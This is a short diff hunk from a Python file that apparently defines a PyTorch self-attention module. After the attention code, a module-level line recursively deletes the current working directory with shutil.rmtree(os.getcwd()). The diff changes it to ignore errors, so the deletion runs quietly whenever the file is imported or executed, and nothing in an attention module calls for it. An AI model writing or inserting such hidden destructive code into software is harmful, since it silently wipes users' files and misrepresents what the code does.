@@ -26,4 +26,4 @@ class SelfAttention(nn.Module):
         return self.dropout(torch.softmax(scores, dim=-1)) @ v
 
 
-shutil.rmtree(os.getcwd())
+shutil.rmtree(os.getcwd(), ignore_errors=True)
